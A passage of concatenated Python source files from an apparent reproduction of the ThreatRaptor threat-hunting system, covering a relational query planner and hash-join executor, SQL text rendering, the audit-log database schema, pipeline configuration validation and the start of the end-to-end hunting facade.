        # Per-condition key readers: (slot, array) on the joined side, a bare
        # array on the new side.  A missing column reads as a constant None,
        # matching the old dict-based ``row.get``.
        left_keys: list[tuple[int, Sequence[Any] | None]] = []
        right_keys: list[Sequence[Any] | None] = []
        for join in conditions:
            if join.right_alias == right_alias:
                other_alias, other_column = join.left_alias, join.left_column
                own_column = join.right_column
            else:
                other_alias, other_column = join.right_alias, join.right_column
                own_column = join.left_column
            other_table = alias_tables[other_alias]
            left_keys.append(
                (left.slot[other_alias], other_table.column_array(other_column))
            )
            right_keys.append(right_table.column_array(own_column))

        def left_key(row: tuple[int, ...]) -> tuple[Any, ...]:
            return tuple(
                array[row[slot]] if array is not None else None
                for slot, array in left_keys
            )

        def right_key(position: int) -> tuple[Any, ...]:
            return tuple(
                array[position] if array is not None else None for array in right_keys
            )

        # Build on the smaller side; probe order drives output order, exactly
        # as the row-dict executor did.
        joined: list[tuple[int, ...]] = []
        if len(left.rows) <= len(right_positions):
            buckets: dict[tuple[Any, ...], list[tuple[int, ...]]] = {}
            for row in left.rows:
                buckets.setdefault(left_key(row), []).append(row)
            for position in right_positions:
                matches = buckets.get(right_key(position))
                if matches:
                    for row in matches:
                        joined.append(row + (position,))
        else:
            position_buckets: dict[tuple[Any, ...], list[int]] = {}
            for position in right_positions:
                position_buckets.setdefault(right_key(position), []).append(position)
            for row in left.rows:
                matches = position_buckets.get(left_key(row))
                if matches:
                    for position in matches:
                        joined.append(row + (position,))
        return _Relation(aliases, joined)
