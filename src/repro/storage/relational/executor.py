"""Planner and executor for relational :class:`SelectQuery` objects.

The execution strategy mirrors what PostgreSQL would do for the join shapes
the TBQL compiler produces (an event table joined with entity tables):

1. **Access path selection** — for each alias, pick an index-assisted access
   path when the pushed-down predicate contains an equality on a hash-indexed
   column or a range on a sorted-indexed column; otherwise a filtered scan.
2. **Join ordering** — start from the alias with the smallest estimated
   cardinality and repeatedly join the connected alias with the smallest
   estimate (a greedy bushy-to-left-deep heuristic, which is adequate for the
   star-shaped joins produced here).
3. **Hash joins** — every join condition is an equi-join, executed by building
   a hash table on the smaller side.
4. Cross-alias residual filters, projection, DISTINCT, ORDER BY and LIMIT are
   applied on the joined rows.

Intermediate rows carry qualified column names (``alias.column``) so residual
predicates and the projection can address any alias unambiguously.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any, Iterable

from repro.errors import QueryError
from repro.storage.relational.expression import (
    Expression,
    TrueExpression,
    equality_lookups,
    membership_lookups,
    range_lookups,
)
from repro.storage.relational.query import QueryResult, SelectQuery
from repro.storage.relational.table import Table


@dataclass
class AccessPath:
    """The chosen access path for one alias."""

    alias: str
    table: Table
    kind: str  # "index-eq", "index-in", "index-range" or "scan"
    column: str | None = None
    value: Any = None
    values: tuple[Any, ...] | None = None
    low: Any = None
    high: Any = None
    estimated_rows: float = 0.0

    def describe(self) -> str:
        """Human-readable description used by EXPLAIN output."""
        if self.kind == "index-eq":
            return f"{self.alias}: index lookup {self.column}={self.value!r}"
        if self.kind == "index-in":
            count = len(self.values or ())
            return f"{self.alias}: index lookup {self.column} IN ({count} values)"
        if self.kind == "index-range":
            return f"{self.alias}: index range {self.column} in [{self.low}, {self.high}]"
        return f"{self.alias}: sequential scan"


@dataclass
class ExecutionPlan:
    """The full plan for one query: access paths plus join order."""

    access_paths: dict[str, AccessPath]
    join_order: list[str]

    def describe(self) -> list[str]:
        """EXPLAIN-style lines describing the plan."""
        lines = [self.access_paths[alias].describe() for alias in self.join_order]
        lines.append("join order: " + " -> ".join(self.join_order))
        return lines


class QueryExecutor:
    """Plans and executes :class:`SelectQuery` objects against a table dict."""

    def __init__(self, tables: dict[str, Table]) -> None:
        self._tables = tables

    # -- planning ----------------------------------------------------------

    def plan(self, query: SelectQuery) -> ExecutionPlan:
        """Produce an execution plan without running the query."""
        if not query.tables:
            raise QueryError("query has no tables")
        access_paths: dict[str, AccessPath] = {}
        for ref in query.tables:
            table = self._tables.get(ref.table)
            if table is None:
                raise QueryError(f"unknown table {ref.table!r}")
            predicate = query.filter_for_alias(ref.alias)
            access_paths[ref.alias] = self._choose_access_path(ref.alias, table, predicate)
        join_order = self._order_joins(query, access_paths)
        return ExecutionPlan(access_paths=access_paths, join_order=join_order)

    def _choose_access_path(
        self, alias: str, table: Table, predicate: Expression
    ) -> AccessPath:
        """Pick the cheapest index-assisted access path for one alias.

        All indexable conjuncts (equalities, IN-lists, ranges) are costed and
        the lowest-estimate candidate wins; a sequential scan is the fallback.
        """
        candidates: list[AccessPath] = []
        has_filter = not isinstance(predicate, TrueExpression)
        equalities = equality_lookups(predicate) if has_filter else {}
        for column, value in equalities.items():
            if column in table.hash_indexed_columns():
                estimate = max(1.0, len(table) * table.estimate_selectivity(column))
                candidates.append(
                    AccessPath(
                        alias=alias,
                        table=table,
                        kind="index-eq",
                        column=column,
                        value=value,
                        estimated_rows=estimate,
                    )
                )
        memberships = membership_lookups(predicate) if has_filter else {}
        for column, values in memberships.items():
            if column in table.hash_indexed_columns():
                per_value = max(1.0, len(table) * table.estimate_selectivity(column))
                candidates.append(
                    AccessPath(
                        alias=alias,
                        table=table,
                        kind="index-in",
                        column=column,
                        values=values,
                        estimated_rows=per_value * len(values),
                    )
                )
        ranges = range_lookups(predicate) if has_filter else {}
        for column, (low, high) in ranges.items():
            if column in table.sorted_indexed_columns():
                candidates.append(
                    AccessPath(
                        alias=alias,
                        table=table,
                        kind="index-range",
                        column=column,
                        low=low,
                        high=high,
                        estimated_rows=max(1.0, len(table) * 0.25),
                    )
                )
        if candidates:
            return min(candidates, key=lambda path: path.estimated_rows)
        selectivity = 1.0 if isinstance(predicate, TrueExpression) else 0.5
        return AccessPath(
            alias=alias,
            table=table,
            kind="scan",
            estimated_rows=max(1.0, len(table) * selectivity),
        )

    def _order_joins(
        self, query: SelectQuery, access_paths: dict[str, AccessPath]
    ) -> list[str]:
        remaining = set(query.aliases())
        if not remaining:
            return []
        # adjacency from join conditions
        adjacency: dict[str, set[str]] = {alias: set() for alias in remaining}
        for join in query.joins:
            left, right = join.aliases()
            adjacency[left].add(right)
            adjacency[right].add(left)

        order: list[str] = []
        # Start with the smallest estimated alias.
        current = min(remaining, key=lambda alias: access_paths[alias].estimated_rows)
        order.append(current)
        remaining.discard(current)
        while remaining:
            connected = {
                alias
                for alias in remaining
                if any(neighbor in order for neighbor in adjacency[alias])
            }
            candidates = connected or remaining
            nxt = min(candidates, key=lambda alias: access_paths[alias].estimated_rows)
            order.append(nxt)
            remaining.discard(nxt)
        return order

    # -- execution ---------------------------------------------------------

    def execute(self, query: SelectQuery) -> QueryResult:
        """Execute ``query`` and return its result set."""
        plan = self.plan(query)
        joined = self._execute_joins(query, plan)

        # Residual cross-alias filters.
        for predicate in query.cross_filters:
            joined = [row for row in joined if predicate.evaluate(row)]

        # Projection.
        if query.projection:
            columns = tuple(output.output_name for output in query.projection)
            projected = [
                tuple(row.get(f"{output.alias}.{output.column}") for output in query.projection)
                for row in joined
            ]
        else:
            columns = self._all_columns(query)
            projected = [tuple(row.get(column) for column in columns) for row in joined]

        if query.distinct:
            seen: set[tuple[Any, ...]] = set()
            unique: list[tuple[Any, ...]] = []
            for row in projected:
                if row not in seen:
                    seen.add(row)
                    unique.append(row)
            projected = unique

        if query.order_by:
            positions = {column: index for index, column in enumerate(columns)}

            def sort_key(row: tuple[Any, ...]) -> tuple[Any, ...]:
                key: list[Any] = []
                for term in query.order_by:
                    qualified = f"{term.alias}.{term.column}"
                    index = positions.get(qualified)
                    value = row[index] if index is not None else None
                    key.append(value)
                return tuple(key)

            reverse = bool(query.order_by and query.order_by[0].descending)
            projected.sort(key=sort_key, reverse=reverse)

        if query.limit is not None:
            projected = projected[: query.limit]

        return QueryResult(columns=columns, rows=tuple(projected))

    def explain(self, query: SelectQuery) -> list[str]:
        """Return EXPLAIN-style plan lines without executing the query."""
        return self.plan(query).describe()

    # -- internals ----------------------------------------------------------

    def _all_columns(self, query: SelectQuery) -> tuple[str, ...]:
        columns: list[str] = []
        for ref in query.tables:
            table = self._tables[ref.table]
            columns.extend(f"{ref.alias}.{name}" for name in table.schema.column_names())
        return tuple(columns)

    def _rows_for_alias(self, query: SelectQuery, path: AccessPath) -> list[dict[str, Any]]:
        predicate = query.filter_for_alias(path.alias)
        residual = None if isinstance(predicate, TrueExpression) else predicate
        if path.kind == "index-eq":
            raw = path.table.lookup_equal(path.column, path.value, residual=residual)
        elif path.kind == "index-in":
            raw = path.table.lookup_in(path.column, path.values or (), residual=residual)
        elif path.kind == "index-range":
            raw = path.table.lookup_range(
                path.column, low=path.low, high=path.high, residual=residual
            )
        else:
            raw = path.table.scan(residual)
        qualified: list[dict[str, Any]] = []
        prefix = f"{path.alias}."
        for row in raw:
            qualified.append({prefix + key: value for key, value in row.items()})
        return qualified

    def _execute_joins(self, query: SelectQuery, plan: ExecutionPlan) -> list[dict[str, Any]]:
        order = plan.join_order
        if not order:
            return []
        current = self._rows_for_alias(query, plan.access_paths[order[0]])
        joined_aliases = {order[0]}

        for alias in order[1:]:
            right_rows = self._rows_for_alias(query, plan.access_paths[alias])
            conditions = [
                join
                for join in query.joins
                if (join.left_alias == alias and join.right_alias in joined_aliases)
                or (join.right_alias == alias and join.left_alias in joined_aliases)
            ]
            current = self._hash_join(current, right_rows, alias, conditions)
            joined_aliases.add(alias)
        return current

    @staticmethod
    def _hash_join(
        left_rows: list[dict[str, Any]],
        right_rows: list[dict[str, Any]],
        right_alias: str,
        conditions: list,
    ) -> list[dict[str, Any]]:
        if not conditions:
            # Cartesian product (rare: disconnected patterns).
            return [dict(left, **right) for left in left_rows for right in right_rows]

        def left_key(row: dict[str, Any]) -> tuple[Any, ...]:
            key: list[Any] = []
            for join in conditions:
                if join.right_alias == right_alias:
                    key.append(row.get(f"{join.left_alias}.{join.left_column}"))
                else:
                    key.append(row.get(f"{join.right_alias}.{join.right_column}"))
            return tuple(key)

        def right_key(row: dict[str, Any]) -> tuple[Any, ...]:
            key: list[Any] = []
            for join in conditions:
                if join.right_alias == right_alias:
                    key.append(row.get(f"{join.right_alias}.{join.right_column}"))
                else:
                    key.append(row.get(f"{join.left_alias}.{join.left_column}"))
            return tuple(key)

        # Build on the smaller side.
        if len(left_rows) <= len(right_rows):
            buckets: dict[tuple[Any, ...], list[dict[str, Any]]] = {}
            for row in left_rows:
                buckets.setdefault(left_key(row), []).append(row)
            joined: list[dict[str, Any]] = []
            for row in right_rows:
                for match in buckets.get(right_key(row), []):
                    joined.append(dict(match, **row))
            return joined
        buckets = {}
        for row in right_rows:
            buckets.setdefault(right_key(row), []).append(row)
        joined = []
        for row in left_rows:
            for match in buckets.get(left_key(row), []):
                joined.append(dict(row, **match))
        return joined
