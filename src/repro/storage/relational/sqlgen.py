"""SQL text rendering for relational queries.

ThreatRaptor compiles each TBQL event pattern "into a SQL data query which
joins entity tables with event table".  This module renders the logical
:class:`~repro.storage.relational.query.SelectQuery` objects produced by that
compilation into SQL text.  The text serves two purposes in the reproduction:

* EXPLAIN-style output for debugging and the CLI's ``--show-sql`` flag, and
* the query-conciseness experiment (EXP-SYNTH), which compares the length of a
  synthesized TBQL query against the length of the equivalent SQL the engine
  would have to run.
"""

from __future__ import annotations

from repro.storage.relational.query import SelectQuery


def render_select(query: SelectQuery, pretty: bool = True) -> str:
    """Render ``query`` as a SQL SELECT statement.

    Args:
        query: The logical query to render.
        pretty: Use one clause per line when True; single line otherwise.
    """
    separator = "\n" if pretty else " "
    indent = "  " if pretty else ""

    if query.projection:
        select_list = ", ".join(output.to_sql() for output in query.projection)
    else:
        select_list = "*"
    select_clause = "SELECT " + ("DISTINCT " if query.distinct else "") + select_list

    from_items = [f"{ref.table} {ref.alias}" for ref in query.tables]
    from_clause = "FROM " + ", ".join(from_items)

    where_terms: list[str] = []
    for alias in query.aliases():
        predicate = query.filters.get(alias)
        if predicate is not None:
            rendered = predicate.to_sql()
            if rendered != "TRUE":
                where_terms.append(_qualify(rendered, alias))
    where_terms.extend(join.to_sql() for join in query.joins)
    where_terms.extend(predicate.to_sql() for predicate in query.cross_filters)

    clauses = [select_clause, from_clause]
    if where_terms:
        glue = f"{separator}{indent}AND "
        clauses.append("WHERE " + glue.join(where_terms))
    if query.order_by:
        clauses.append("ORDER BY " + ", ".join(term.to_sql() for term in query.order_by))
    if query.limit is not None:
        clauses.append(f"LIMIT {query.limit}")
    return separator.join(clauses) + ";"


def _qualify(rendered_predicate: str, alias: str) -> str:
    """Prefix bare column names in a rendered single-table predicate.

    The per-alias filter expressions reference unqualified column names (they
    run against one table's rows); in the SQL text they must be qualified with
    the alias.  A lightweight token rewrite is sufficient because the rendered
    text only contains column names, operators, literals and parentheses.
    """
    known_columns = {
        "id",
        "type",
        "host",
        "name",
        "exename",
        "pid",
        "cmdline",
        "owner",
        "srcip",
        "srcport",
        "dstip",
        "dstport",
        "protocol",
        "srcid",
        "dstid",
        "optype",
        "eventtype",
        "starttime",
        "endtime",
        "amount",
    }
    out: list[str] = []
    token = ""
    in_string = False
    for char in rendered_predicate:
        if char == "'":
            if token and not in_string:
                out.append(_maybe_qualify(token, alias, known_columns))
                token = ""
            in_string = not in_string
            out.append(char)
            continue
        if in_string:
            out.append(char)
            continue
        if char.isalnum() or char == "_" or char == ".":
            token += char
        else:
            if token:
                out.append(_maybe_qualify(token, alias, known_columns))
                token = ""
            out.append(char)
    if token:
        out.append(_maybe_qualify(token, alias, known_columns))
    return "".join(out)


def _maybe_qualify(token: str, alias: str, known_columns: set[str]) -> str:
    if token in known_columns:
        return f"{alias}.{token}"
    return token


def count_query_lines(sql_text: str) -> int:
    """Count non-blank lines of a rendered SQL query (for EXP-SYNTH)."""
    return sum(1 for line in sql_text.splitlines() if line.strip())
