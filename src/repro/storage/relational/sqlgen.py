"""SQL text rendering for relational queries.

ThreatRaptor compiles each TBQL event pattern "into a SQL data query which
joins entity tables with event table".  This module renders the logical
:class:`~repro.storage.relational.query.SelectQuery` objects produced by that
compilation into SQL text.  The text serves two purposes in the reproduction:

* EXPLAIN-style output for debugging and the CLI's ``--show-sql`` flag, and
* the query-conciseness experiment (EXP-SYNTH), which compares the length of a
  synthesized TBQL query against the length of the equivalent SQL the engine
  would have to run.

The rendering itself lives in :mod:`repro.storage.sql.render`, which walks
the expression tree structurally — per-alias column qualification happens on
:class:`~repro.storage.relational.expression.Column` nodes rather than via
the text-level token rewrite this module used to apply.  The executable
(parameterized) rendering for the sqlite backend shares the same walker.
"""

from __future__ import annotations

from repro.storage.relational.query import SelectQuery


def render_select(query: SelectQuery, pretty: bool = True) -> str:
    """Render ``query`` as a SQL SELECT statement.

    Args:
        query: The logical query to render.
        pretty: Use one clause per line when True; single line otherwise.
    """
    # Imported here: repro.storage.sql.render imports the expression module
    # from this package, so a module-level import would be circular during
    # package initialization.
    from repro.storage.sql.render import render_select_query

    return render_select_query(query, parameterized=False, pretty=pretty).text


def count_query_lines(sql_text: str) -> int:
    """Count non-blank lines of a rendered SQL query (for EXP-SYNTH)."""
    return sum(1 for line in sql_text.splitlines() if line.strip())
