"""The relational audit database (PostgreSQL substitute).

:class:`RelationalDatabase` owns the audit schema — an ``entities`` table and
an ``events`` table, mirroring how the paper stores "system entities and
system events in tables" — plus the indexes "created on key attributes to
speed up the search".  It exposes bulk loading from an
:class:`~repro.auditing.trace.AuditTrace` and query execution through
:class:`~repro.storage.relational.executor.QueryExecutor`.
"""

from __future__ import annotations

from typing import Any, Iterable

from repro.auditing.entities import SystemEntity
from repro.auditing.events import SystemEvent
from repro.auditing.trace import AuditTrace
from repro.errors import QueryError
from repro.storage.relational.executor import ExecutionPlan, QueryExecutor
from repro.storage.relational.query import QueryResult, SelectQuery
from repro.storage.relational.table import ColumnDefinition, Table, TableSchema

#: Schema of the ``entities`` table: one row per system entity, with a sparse
#: union of the per-type attributes (unused attributes are NULL), matching the
#: single-table-per-kind layout the paper describes.
ENTITY_SCHEMA = TableSchema(
    name="entities",
    columns=(
        ColumnDefinition("id", int, nullable=False),
        ColumnDefinition("type", str, nullable=False),
        ColumnDefinition("host", str),
        ColumnDefinition("name", str),
        ColumnDefinition("exename", str),
        ColumnDefinition("pid", int),
        ColumnDefinition("cmdline", str),
        ColumnDefinition("owner", str),
        ColumnDefinition("srcip", str),
        ColumnDefinition("srcport", int),
        ColumnDefinition("dstip", str),
        ColumnDefinition("dstport", int),
        ColumnDefinition("protocol", str),
    ),
)

#: Schema of the ``events`` table.
EVENT_SCHEMA = TableSchema(
    name="events",
    columns=(
        ColumnDefinition("id", int, nullable=False),
        ColumnDefinition("srcid", int, nullable=False),
        ColumnDefinition("dstid", int, nullable=False),
        ColumnDefinition("optype", str, nullable=False),
        ColumnDefinition("eventtype", str, nullable=False),
        ColumnDefinition("starttime", int, nullable=False),
        ColumnDefinition("endtime", int, nullable=False),
        ColumnDefinition("amount", int),
        ColumnDefinition("host", str),
    ),
)

#: Columns that receive hash indexes at creation time.
DEFAULT_HASH_INDEXES: dict[str, tuple[str, ...]] = {
    "entities": ("id", "type", "name", "exename", "dstip"),
    "events": ("id", "srcid", "dstid", "optype", "eventtype"),
}

#: Columns that receive sorted indexes at creation time.
DEFAULT_SORTED_INDEXES: dict[str, tuple[str, ...]] = {
    "entities": (),
    "events": ("starttime", "endtime"),
}


class RelationalDatabase:
    """In-memory relational store for audit logging data.

    Args:
        executor: ``"vectorized"`` (the columnar
            :class:`~repro.storage.relational.executor.QueryExecutor`, the
            production engine) or ``"reference"`` (the row-dict
            :class:`~repro.storage.relational.reference.ReferenceQueryExecutor`
            oracle the differential harness compares it against).  Planning
            and EXPLAIN always go through the shared planner.
    """

    def __init__(self, executor: str = "vectorized") -> None:
        if executor not in ("vectorized", "reference"):
            raise QueryError(f"unknown relational executor {executor!r}")
        self._tables: dict[str, Table] = {}
        self.clear()
        self._planner = QueryExecutor(self._tables)
        if executor == "vectorized":
            self._executor = self._planner
        else:
            from repro.storage.relational.reference import ReferenceQueryExecutor

            self._executor = ReferenceQueryExecutor(self._tables)
        self.executor_name = executor

    def clear(self) -> None:
        """Drop every row and rebuild the audit schema with fresh indexes."""
        self._tables["entities"] = Table(ENTITY_SCHEMA)
        self._tables["events"] = Table(EVENT_SCHEMA)
        for table_name, columns in DEFAULT_HASH_INDEXES.items():
            for column in columns:
                self._tables[table_name].create_hash_index(column)
        for table_name, columns in DEFAULT_SORTED_INDEXES.items():
            for column in columns:
                self._tables[table_name].create_sorted_index(column)

    # -- loading -----------------------------------------------------------

    def load_entities(self, entities: Iterable[SystemEntity]) -> int:
        """Bulk-insert entities; returns the number inserted."""
        return self._tables["entities"].insert_many(entity.to_row() for entity in entities)

    def load_events(self, events: Iterable[SystemEvent]) -> int:
        """Bulk-insert events; returns the number inserted."""
        return self._tables["events"].insert_many(event.to_row() for event in events)

    def load_trace(self, trace: AuditTrace) -> dict[str, int]:
        """Load a full audit trace; returns per-table row counts inserted."""
        return {
            "entities": self.load_entities(trace.entities),
            "events": self.load_events(trace.events),
        }

    # -- incremental loading -------------------------------------------------

    def has_entity(self, entity_id: int) -> bool:
        """True when an entity row with ``entity_id`` is already stored."""
        return next(self._tables["entities"].lookup_equal("id", entity_id), None) is not None

    def append_entities(self, entities: Iterable[SystemEntity]) -> int:
        """Insert entities not yet present (by id); returns the number added."""
        count = 0
        for entity in entities:
            if not self.has_entity(entity.entity_id):
                self._tables["entities"].insert(entity.to_row())
                count += 1
        return count

    def append_events(self, events: Iterable[SystemEvent]) -> int:
        """Append events to the store; returns the number added."""
        return self.load_events(events)

    def append_batch(
        self, entities: Iterable[SystemEntity], events: Iterable[SystemEvent]
    ) -> dict[str, int]:
        """Incrementally append one micro-batch of entities and events.

        Unlike :meth:`load_trace` this is safe to call repeatedly: entities
        observed in earlier batches are skipped rather than duplicated.
        """
        return {
            "entities": self.append_entities(entities),
            "events": self.append_events(events),
        }

    # -- querying ----------------------------------------------------------

    def table(self, name: str) -> Table:
        """Access one of the audit tables by name.

        Raises:
            QueryError: for unknown table names.
        """
        try:
            return self._tables[name]
        except KeyError:
            raise QueryError(f"unknown table {name!r}") from None

    def execute(self, query: SelectQuery) -> QueryResult:
        """Execute a select-project-join query."""
        return self._executor.execute(query)

    def plan(self, query: SelectQuery) -> ExecutionPlan:
        """Plan a query without executing it."""
        return self._planner.plan(query)

    def explain(self, query: SelectQuery) -> list[str]:
        """EXPLAIN-style plan description."""
        return self._planner.explain(query)

    # -- statistics ----------------------------------------------------------

    def statistics(self) -> dict[str, Any]:
        """Row counts and index info for every table."""
        return {name: table.statistics() for name, table in self._tables.items()}

    def __len__(self) -> int:
        return sum(len(table) for table in self._tables.values())
