"""Core orchestration: the ThreatRaptor facade and its configuration."""

from repro.core.config import ThreatRaptorConfig
from repro.core.pipeline import HuntReport, ThreatRaptor

__all__ = ["HuntReport", "ThreatRaptor", "ThreatRaptorConfig"]
