"""Configuration for the end-to-end ThreatRaptor pipeline."""

from __future__ import annotations

from dataclasses import dataclass

from repro.errors import ConfigurationError


@dataclass
class ThreatRaptorConfig:
    """Settings controlling the end-to-end pipeline.

    Attributes:
        apply_reduction: Run Causality Preserved Reduction before storage.
        reduction_merge_window_ns: CPR merge window in nanoseconds
            (``None`` = unlimited).
        resolve_nominal_coreference: Enable definite-noun-phrase coreference in
            the NLP pipeline (pronoun-only when False).
        synthesis_wildcard_filters: Wrap synthesized entity filters in ``%``
            wildcards.
        synthesis_use_path_patterns: Synthesize variable-length path patterns
            instead of single event patterns.
        synthesis_path_max_length: Maximum path length for synthesized path
            patterns.
        execution_backend: ``"auto"``, ``"relational"``, ``"sql"`` (run
            compiled data queries on the sqlite3-backed
            :class:`~repro.storage.sql.database.SqliteRelationalDatabase`) or
            ``"graph"``.
        optimize_execution: Use pruning-score scheduling with constraint
            propagation.
        relational_executor: ``"vectorized"`` (the columnar engine) or
            ``"reference"`` (the row-dict oracle executor) — the differential
            harness runs both and compares answers.
        graph_matcher: ``"planner"`` (cost-guided path search) or
            ``"reference"`` (the always-forward DFS oracle).
        analysis_mode: Static-analysis admission gate — ``"enforce"`` (error
            diagnostics reject a query before it runs or registers, the
            default), ``"warn"`` (analyze and report, never reject) or
            ``"off"`` (skip analysis entirely).
        storage: ``"memory"`` (in-memory relational store) or ``"segments"``
            (durable on-disk segmented store; see
            :mod:`repro.storage.segment`).
        shards: Number of host-partitioned audit-store shards (1 = the
            single-store layout; >1 builds a
            :class:`~repro.storage.sharded.ShardedAuditStore`).
        data_dir: Data directory for ``storage="segments"`` (each shard owns
            a subdirectory when sharded).  ``None`` with segmented storage
            uses a store-owned temporary directory.
        segment_rows: Memtable seal threshold for the segmented store.
    """

    apply_reduction: bool = True
    reduction_merge_window_ns: int | None = 10_000_000_000
    resolve_nominal_coreference: bool = False
    synthesis_wildcard_filters: bool = True
    synthesis_use_path_patterns: bool = False
    synthesis_path_max_length: int = 4
    execution_backend: str = "auto"
    optimize_execution: bool = True
    relational_executor: str = "vectorized"
    graph_matcher: str = "planner"
    analysis_mode: str = "enforce"
    storage: str = "memory"
    shards: int = 1
    data_dir: str | None = None
    segment_rows: int = 4096

    def validate(self) -> "ThreatRaptorConfig":
        """Validate the configuration, returning ``self`` for chaining.

        Raises:
            ConfigurationError: when a setting is out of range.
        """
        if self.execution_backend not in ("auto", "relational", "sql", "graph"):
            raise ConfigurationError(
                f"execution_backend must be 'auto', 'relational', 'sql' or "
                f"'graph', got {self.execution_backend!r}"
            )
        if self.execution_backend == "sql" and self.storage == "segments":
            raise ConfigurationError(
                "execution_backend='sql' keeps rows inside sqlite and cannot "
                "be combined with storage='segments'"
            )
        if self.relational_executor not in ("vectorized", "reference"):
            raise ConfigurationError(
                f"relational_executor must be 'vectorized' or 'reference', "
                f"got {self.relational_executor!r}"
            )
        if self.graph_matcher not in ("planner", "reference"):
            raise ConfigurationError(
                f"graph_matcher must be 'planner' or 'reference', "
                f"got {self.graph_matcher!r}"
            )
        if self.analysis_mode not in ("enforce", "warn", "off"):
            raise ConfigurationError(
                f"analysis_mode must be 'enforce', 'warn' or 'off', "
                f"got {self.analysis_mode!r}"
            )
        if self.storage not in ("memory", "segments"):
            raise ConfigurationError(
                f"storage must be 'memory' or 'segments', got {self.storage!r}"
            )
        if self.shards < 1:
            raise ConfigurationError(f"shards must be at least 1, got {self.shards}")
        if self.data_dir is not None and self.storage != "segments":
            raise ConfigurationError(
                "data_dir is only meaningful with storage='segments'"
            )
        if self.segment_rows < 1:
            raise ConfigurationError(
                f"segment_rows must be at least 1, got {self.segment_rows}"
            )
        if self.synthesis_path_max_length < 1:
            raise ConfigurationError("synthesis_path_max_length must be at least 1")
        if (
            self.reduction_merge_window_ns is not None
            and self.reduction_merge_window_ns < 0
        ):
            raise ConfigurationError("reduction_merge_window_ns must be non-negative")
        return self
