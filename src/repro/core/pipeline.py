"""The ThreatRaptor facade: OSCTI report text → matched audit records.

:class:`ThreatRaptor` wires the subsystems together exactly as Figure 1 of the
paper describes: system audit logging data is parsed and stored in the
relational and graph backends; an OSCTI report goes through the threat
behavior extraction pipeline to produce a threat behavior graph; the graph is
synthesized into a TBQL query; and the query execution engine searches the
stored audit data, returning the matched system auditing records.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING, TextIO

from repro.auditing.parser import AuditLogParser
from repro.auditing.trace import AuditTrace
from repro.core.config import ThreatRaptorConfig
from repro.nlp.behavior_graph import ThreatBehaviorGraph
from repro.nlp.extractor import ExtractionResult, ThreatBehaviorExtractor
from repro.storage.loader import AuditStore, LoadReport
from repro.storage.sharded import ShardedAuditStore
from repro.tbql.ast import Query
from repro.tbql.executor import TBQLExecutionEngine
from repro.tbql.formatter import format_query
from repro.tbql.parser import parse_query
from repro.tbql.prepared import (
    PreparedExecution,
    SharedPlanCache,
    ShardedPreparedQuery,
)
from repro.tbql.result import TBQLResult, merge_results
from repro.tbql.synthesis import QuerySynthesizer, SynthesisPlan

if TYPE_CHECKING:  # pragma: no cover - typing only, avoids an import cycle
    from repro.intel.corpus import CorpusReport, ReportCorpus
    from repro.intel.hunt import CorpusHuntResult
    from repro.tbql.analysis.diagnostics import AnalysisReport
    from repro.streaming.alerts import AlertSink
    from repro.streaming.service import HuntingService


@dataclass
class HuntReport:
    """Everything produced by one end-to-end hunt."""

    extraction: ExtractionResult
    behavior_graph: ThreatBehaviorGraph
    query: Query
    query_text: str
    result: TBQLResult
    load_report: LoadReport | None = None

    def summary(self) -> dict[str, object]:
        """Compact summary used by the CLI and the examples.

        The IOC count is taken from :meth:`ExtractionResult.canonical_iocs` —
        the same canonical form query synthesis consumes — so the reported
        number matches the entities that can appear in synthesized filters.
        """
        return {
            "iocs": len(self.extraction.canonical_iocs()),
            "behavior_edges": len(self.behavior_graph.edges),
            "query_patterns": len(self.query.patterns),
            "result_rows": len(self.result),
            "matched_events": len(self.result.all_matched_event_ids()),
        }


class ThreatRaptor:
    """The end-to-end threat hunting system.

    Typical usage::

        raptor = ThreatRaptor()
        raptor.load_trace(trace)               # from the simulator or a log file
        report = raptor.hunt(osint_report_text)
        print(report.query_text)
        print(report.result.to_table())
    """

    def __init__(self, config: ThreatRaptorConfig | None = None) -> None:
        self.config = (config or ThreatRaptorConfig()).validate()
        # backend="sql" swaps the store's relational engine for the
        # sqlite3-backed one; the configured executor is irrelevant there.
        relational_executor = (
            "sql"
            if self.config.execution_backend == "sql"
            else self.config.relational_executor
        )
        store_kwargs = dict(
            apply_reduction=self.config.apply_reduction,
            merge_window_ns=self.config.reduction_merge_window_ns,
            relational_executor=relational_executor,
            storage=self.config.storage,
            data_dir=self.config.data_dir,
            segment_rows=self.config.segment_rows,
        )
        self.store: AuditStore | ShardedAuditStore
        if self.config.shards > 1:
            self.store = ShardedAuditStore(shards=self.config.shards, **store_kwargs)
        else:
            self.store = AuditStore(**store_kwargs)
        self._extractor = ThreatBehaviorExtractor(
            resolve_nominal_coreference=self.config.resolve_nominal_coreference
        )
        self._synthesizer = QuerySynthesizer(
            SynthesisPlan(
                use_path_patterns=self.config.synthesis_use_path_patterns,
                path_max_length=self.config.synthesis_path_max_length,
                wildcard_filters=self.config.synthesis_wildcard_filters,
            )
        )
        engine_kwargs = dict(
            backend=self.config.execution_backend,
            graph_matcher=self.config.graph_matcher,
            analysis_mode=self.config.analysis_mode,
        )
        if isinstance(self.store, ShardedAuditStore):
            # One engine per shard; prepared plans compile once (on the first
            # engine) and are shared across all of them via the plan cache.
            self._engines = tuple(
                TBQLExecutionEngine(child, **engine_kwargs)
                for child in self.store.shard_stores
            )
        else:
            self._engines = (TBQLExecutionEngine(self.store, **engine_kwargs),)
        self._engine = self._engines[0]
        self.plan_cache: SharedPlanCache | None = (
            SharedPlanCache() if len(self._engines) > 1 else None
        )
        self._load_report: LoadReport | None = None

    # -- data collection / storage --------------------------------------------------

    def load_trace(self, trace: AuditTrace) -> LoadReport:
        """Load an in-memory audit trace into the storage backends."""
        self._load_report = self.store.load_trace(trace)
        return self._load_report

    def load_log(self, stream: TextIO, host: str = "localhost") -> LoadReport:
        """Parse a Sysdig-style audit log stream and load it."""
        trace, _ = AuditLogParser(host=host).parse(stream)
        return self.load_trace(trace)

    def load_log_file(self, path: str, host: str = "localhost") -> LoadReport:
        """Parse and load an audit log file from disk."""
        with open(path, "r", encoding="utf-8") as handle:
            return self.load_log(handle, host=host)

    # -- pipeline stages --------------------------------------------------------------

    def extract_behavior_graph(self, report_text: str) -> ExtractionResult:
        """Run threat behavior extraction on an OSCTI report."""
        return self._extractor.extract(report_text)

    def synthesize_query(self, graph: ThreatBehaviorGraph) -> Query:
        """Synthesize a TBQL query from a threat behavior graph."""
        return self._synthesizer.synthesize(graph)

    def execute_query(self, query: Query | str) -> TBQLResult:
